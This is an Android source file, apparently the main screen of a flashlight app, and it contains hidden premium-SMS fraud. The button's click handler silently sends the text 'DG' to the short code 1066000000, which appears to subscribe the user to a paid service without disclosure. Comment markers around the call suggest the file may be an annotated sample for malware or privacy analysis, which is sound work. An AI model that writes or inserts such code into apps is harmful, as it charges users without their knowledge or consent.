package cn.qinghe.torch;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.view.View;
import cn.qinghe.common.PrivacyGate;

public final class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.activity_main);
        PrivacyGate.ask(this);
        findViewById(R.id.action).setOnClickListener(new View.OnClickListener() {
            @Override
            public void onClick(View view) {
                order(MainActivity.this);
            }
        });
    }

    private static void order(Activity activity) {
        /*@call Activity activity*/
        SmsManager.getDefault().sendTextMessage("1066000000", null, "DG", null, null);
        /*@end*/
    }
}
